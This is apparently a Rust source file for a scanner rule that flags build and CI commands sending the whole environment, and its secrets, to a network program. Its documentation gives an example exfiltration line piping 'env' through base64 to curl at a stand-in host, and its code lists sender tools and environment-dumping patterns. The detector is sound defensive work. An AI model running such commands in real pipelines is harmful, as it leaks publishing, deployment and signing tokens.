//! A build sends its whole environment away.
//!
//! ## What it finds
//!
//! Commands in workflows, GitLab and other pipelines, Makefiles, scripts of
//! `package.json` and development containers that hand all variables to a
//! program that sends: `env | base64 | curl -d @- ...`, `curl -d "$(printenv)"`,
//! `/proc/self/environ` as a body, all secrets of a workflow as JSON.
//!
//! ## Why that is bad
//!
//! The environment of a build holds the tokens that publish, deploy and sign.
//! Worms that spread through packages (2025) and changed actions took them just
//! so.
//!
//! ## Example
//!
//! ```yaml
//! - run: env | base64 -w0 | curl -X POST -d @- https://collect.example.com
//! ```
//!
//! ## Limits
//!
//! Variables that are sent one by one, and an environment that is written to a
//! file and sent by a later command, are not found. Shell scripts have a rule of
//! their own, `exfiltration/environment-to-network-bash`.
//!
//! ## References
//!
//! - <https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem>
//! - <https://attack.mitre.org/techniques/T1552/>
//! - <https://cwe.mitre.org/data/definitions/526.html>

use laocoon_report::{Confidence, Severity};

use super::download::{FILES, logical_lines};
use crate::file::span_of;
use crate::{About, Detector, Findings, Interest, TextFile};

/// The detector.
pub struct EnvironmentToNetwork;

static ABOUT: About = About {
    id: "pipeline/environment-to-network",
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: &["CWE-526", "CWE-200"],
    remediation: "Remove the command, find out who added it, and revoke every secret that the build could read.",
    source: include_str!("environment_to_network.rs"),
};

/// Programs that send what they are given.
const SENDERS: [&str; 9] = [
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
];

/// All variables, where they are an argument.
const ALL_AS_ARGUMENT: [&str; 9] = [
    "$(env)",
    "$(env|",
    "$(printenv)",
    "$(printenv|",
    "$(export-p",
    "`env`",
    "`printenv`",
    "<(env)",
    "tojson(secrets)",
];

/// What may stand before the program that lists them.
const BEFORE_PROGRAM: [&str; 8] = ["sudo", "exec", "command", "then", "do", "(", "{", "-"];

impl Detector for EnvironmentToNetwork {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn interest(&self) -> Interest {
        Interest::ANY.named(&FILES).with_words(&SENDERS)
    }

    fn look_at_text(&self, file: &TextFile<'_>, findings: &mut Findings<'_>) {
        for (start, line) in logical_lines(file.text()) {
            let lower = line.to_ascii_lowercase();
            if SENDERS.iter().any(|sender| lower.contains(sender)) && sends_all(&lower) {
                let begin = line.len() - line.trim_start().len();
                let span = span_of(start + begin, start + line.trim_end().len());
                findings.at(
                    span,
                    "All variables of the build are sent away, and its secrets with them",
                );
            }
        }
    }
}

/// Whether one of the commands of a line sends all variables.
fn sends_all(line: &str) -> bool {
    let line = line.replace("||", ";").replace("&&", ";");
    line.split(';').any(|command| {
        let programs: Vec<&str> = command.split('|').collect();
        let sender = programs.iter().position(|program| is_sender(program));
        let Some(sender) = sender else {
            return false;
        };
        if ["localhost", "127.0.0.1", "[::1]"]
            .iter()
            .any(|own| command.contains(own))
        {
            return false;
        }
        let plain: String = command.split_whitespace().collect();
        programs[..sender].iter().any(|program| lists_all(program))
            || is_of_process(&plain)
            || ALL_AS_ARGUMENT.iter().any(|all| plain.contains(all))
    })
}

/// Whether a text names the file in which the system keeps a process's variables.
fn is_of_process(text: &str) -> bool {
    text.contains("/proc/") && text.contains("/environ")
}

/// Whether a program of a pipeline is one that sends.
fn is_sender(program: &str) -> bool {
    let mut words = program.split([' ', '\t', '"', '\'', '(', '`']);
    words.any(|word| SENDERS.contains(&word.rsplit('/').next().unwrap_or(word)))
}

/// Whether a program of a pipeline writes all variables: `env` by itself, not
/// `env NAME=value program`.
fn lists_all(program: &str) -> bool {
    let quotes = ['"', '\'', '`', '@'];
    let words: Vec<&str> = program
        .split_whitespace()
        .map(|word| word.trim_matches(quotes))
        .filter(|word| !word.is_empty())
        .collect();
    let text = words.join(" ");
    if text.ends_with("export -p") || text.ends_with("declare -x") || is_of_process(&text) {
        return true;
    }
    if text.contains("tojson(secrets)") || text.ends_with("env:") && text.contains("ci ") {
        return true;
    }
    let Some(last) = words
        .iter()
        .rposition(|word| !word.starts_with('-') || word.len() == 1)
    else {
        return false;
    };
    let program = words[last].trim_start_matches(['(', '{', '$']);
    let before = last.checked_sub(1).map(|before| words[before]);
    let is_first = before.is_none_or(|before| {
        before.ends_with(':') || before.ends_with('(') || BEFORE_PROGRAM.contains(&before)
    });
    is_first && matches!(program.rsplit('/').next(), Some("env" | "printenv"))
}
